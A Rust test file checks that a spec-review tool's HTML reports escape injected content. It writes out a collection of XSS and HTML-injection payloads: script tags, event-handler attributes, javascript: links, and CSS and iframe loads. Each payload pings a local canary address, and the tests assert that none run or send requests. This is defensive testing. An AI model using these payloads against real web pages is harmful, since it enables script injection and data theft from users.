//! A spec and answers by somebody who wants a script to run or a request to leave, in a real browser.

use crate::answers;
use crate::canary::Canary;
use crate::desk::{Desk, run};
use crate::driver::Browser;
use crate::pages::Page;
use crate::server::Server;
use serde_json::{Value, json};
use std::time::Duration;

/// What a stranger may write; every script says so in `window.ran`, every address is the canary's.
fn attack(address: &str) -> String {
    let ran = format!("window.ran=1;fetch('//{address}/ran')");
    [
        format!("<script>{ran}</script>"),
        format!("</script><script>{ran}</script></style><script>{ran}</script>"),
        format!("</template></textarea></title><script>{ran}</script>"),
        format!("<script src=http://{address}/s.js></script>"),
        format!("<img src=http://{address}/i.png onerror=\"{ran}\"><img src=x onerror=\"{ran}\">"),
        format!("<svg onload=\"{ran}\"><image href=http://{address}/v.png /></svg>"),
        format!("<iframe srcdoc=\"<script>parent.ran=1</script>\" src=http://{address}/f></iframe>"),
        format!("<link rel=stylesheet href=http://{address}/l.css><link rel=prefetch href=http://{address}/p>"),
        format!("<style>@import 'http://{address}/c.css';*{{background:url(http://{address}/b.png)}}</style>"),
        format!("<meta http-equiv=refresh content=\"0;url=http://{address}/m\"><base href=http://{address}/>"),
        format!("<form action=http://{address}/form><input autofocus onfocus=\"{ran}\"></form><video poster=http://{address}/w autoplay>"),
        format!("\" onmouseover=\"{ran}\" autofocus onfocus=\"{ran}\" ' onfocus='{ran}' x=\""),
        format!("![i](http://{address}/md.png) [x](javascript:{ran}) <javascript:{ran}> [y](data:text/html,<script>parent.ran=1</script>)"),
        format!("[z]: javascript:{ran}"),
    ]
    .join(" ")
}

/// The spec: the attack in every sort of block.
fn spec(attack: &str) -> String {
    format!(
        "---\ntitle: {attack}\n---\n# Returns {attack}\n\nThe refund is paid soon. {attack}\n\n- item {attack}\n\n\
         | a | b |\n|---|---|\n| {} | c |\n\n```html\n{attack}\n```\n\n    {attack}\n\n> {attack}\n\n{attack}\n\n<div onclick=\"window.ran=1\">\n{attack}\n</div>\n\n[^1]: {attack}\n",
        attack.replace('|', "")
    )
}

/// An answer with the attack in every text.
fn answer(attack: &str) -> Value {
    let quote = answers::passage("spec.md", "The refund is paid soon.");
    json!({
        "goals": [{"goal": answers::passage("strategy.md", "Every customer is paid back in money."), "fit": "conflicts", "spec": quote, "note": attack}],
        "coverage": [{"area": "data", "state": "missing", "note": attack}],
        "flags": [
            {
                "label": "F1", "kind": "ambiguous-timing", "severity": "blocker", "title": attack, "passages": [quote],
                "reading_one": attack, "reading_two": format!("{attack} 2"), "scenario": attack, "why": attack, "suggestion": attack,
            },
            {
                "label": "F2", "kind": "missing-case", "severity": "major", "title": format!("2 {attack}"),
                "passages": [answers::passage("spec.md", "item"), quote], "why": attack,
            },
        ],
        "assumptions": [{
            "label": "A1", "passage": quote, "kind": "technical", "statement": attack, "if_false": attack, "check": attack,
            "who": attack, "severity": "minor",
        }],
        "questions": [{
            "blocks": ["F1"], "to": attack, "text": attack, "why": attack, "options": [attack, "b"], "suggested": attack, "default": attack,
        }],
        "summary": attack,
    })
}

fn hostile_page(canary: &Canary) -> String {
    let attack = attack(&canary.address);
    let desk = Desk::new();
    desk.put("spec.md", spec(&attack));
    let server = Server::reading(answer(&attack));
    let run = desk.review(
        &server,
        &["spec.md", "--strategy", "strategy.md", "--format", "html"],
    );
    assert!(run.out.starts_with("<!DOCTYPE html>"), "{}", run.err);
    assert!(
        run.out.matches("&lt;script&gt;").count() > 50,
        "the attack is not in the page"
    );
    run.out
}

/// The page of an audit by the rules, over two documents that both say it.
fn hostile_audit(canary: &Canary) -> String {
    let attack = attack(&canary.address);
    let desk = Desk::new();
    for name in ["one", "two"] {
        desk.put(
            &format!("reqs/{name}.md"),
            format!("# {attack}\n\nThe refund is paid soon, see {attack}\n\nREQ-1: {attack}\n"),
        );
    }
    let run = run(&mut desk.clarify(&["audit", "reqs", "--rules-only", "--format", "html"]));
    assert!(run.out.starts_with("<!DOCTYPE html>"), "{}", run.err);
    run.out
}

/// Does what a reader could: unfolds all, hovers, focuses and clicks, filters and copies.
const TOUCH_ALL: &str = "
    document.querySelectorAll('details').forEach((each) => { each.open = true; });
    document.querySelectorAll('*').forEach((each) => {
      for (const name of ['mouseover', 'mouseenter', 'focus']) each.dispatchEvent(new Event(name, {bubbles: true}));
      each.focus?.();
    });
    document.querySelectorAll('mark, button, a[href^=\"#\"], a[href^=\"javascript\"], summary').forEach((each) => each.click());
    document.querySelectorAll('select').forEach((each) => { each.selectedIndex = 1; each.dispatchEvent(new Event('change', {bubbles: true})); });
    return [window.ran ?? null, document.querySelectorAll('img, svg:not(.bar-drawn), iframe, video, link, base, object, embed').length,
      document.querySelectorAll('script').length, document.querySelectorAll('style').length];";

/// Opens a page, touches everything, and returns what ran, what was counted and what was asked for.
fn opened(browser: &Browser, page: &Page) -> (Value, Vec<String>) {
    browser.go("about:blank");
    browser.requests();
    browser.open_file(&page.path);
    let touched = browser.run(TOUCH_ALL);
    std::thread::sleep(Duration::from_millis(500));
    (touched, browser.requests())
}

/// The page without its policy: nothing may fire even where no policy holds.
fn without_policy(html: &str) -> String {
    let start = html.find("<meta http-equiv=\"Content-Security-Policy\"").unwrap();
    let end = start + html[start..].find('>').unwrap() + 1;
    format!("{}{}", &html[..start], &html[end..])
}

#[test]
fn no_script_runs_and_no_request_leaves_with_or_without_the_policy() {
    let Some(browser) = Browser::open("a hostile review") else {
        return;
    };
    let canary = Canary::new();
    for html in [hostile_page(&canary), hostile_audit(&canary)]
        .iter()
        .flat_map(|html| [html.clone(), without_policy(html)])
    {
        let page = Page::of(&html);
        let (touched, requests) = opened(&browser, &page);
        assert_eq!(touched, json!([null, 0, 1, 1]));
        let address = format!("file://{}", page.path.display());
        assert!(
            requests.iter().all(|request| request.starts_with(&address)),
            "{requests:?}"
        );
    }
    assert_eq!(canary.asked(), Vec::<String>::new());
}

#[test]
fn the_attack_would_be_noticed_if_it_worked() {
    let Some(browser) = Browser::open("a page that is open to attack") else {
        return;
    };
    let canary = Canary::new();
    let attack = attack(&canary.address).replace("http-equiv=refresh", "name=none");
    let (touched, requests) = opened(&browser, &Page::of(&format!("<!DOCTYPE html><p>{attack}</p>")));
    assert_eq!(touched[0], 1);
    assert!(
        requests.iter().any(|request| request.contains(&canary.address)),
        "{requests:?}"
    );
    assert!(!canary.asked().is_empty());
}
